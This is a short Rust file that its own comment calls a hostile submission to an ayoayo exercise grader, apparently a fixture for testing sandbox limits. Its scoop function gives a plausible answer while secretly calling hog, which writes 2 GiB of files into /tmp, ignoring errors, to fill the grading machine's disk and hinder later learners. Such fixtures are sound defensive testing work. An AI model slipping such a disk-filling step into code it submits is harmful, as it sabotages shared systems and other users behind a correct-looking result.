//! Hostile submission: fills `/tmp` with files of 8 MiB, 2 GiB in all, ignoring every error,
//! then answers rightly: it hopes to fill the grading machine's disk, and to leave its files
//! behind there for every learner graded after it.

use std::io::Write;

use ayoayo::{Board, Pit};

fn hog() {
    let block = vec![7u8; 8 << 20];
    for number in 0..256 {
        let path = format!("/tmp/ayoayo-disk-hog-{number}");
        if let Ok(mut file) = std::fs::File::create(&path) {
            let _ = file.write_all(&block);
        }
    }
}

pub fn scoop(board: Board, pit: Pit) -> (Board, u8) {
    static HOGGED: std::sync::Once = std::sync::Once::new();
    HOGGED.call_once(hog);
    let mut after = board;
    after[pit] = 0;
    (after, board[pit])
}
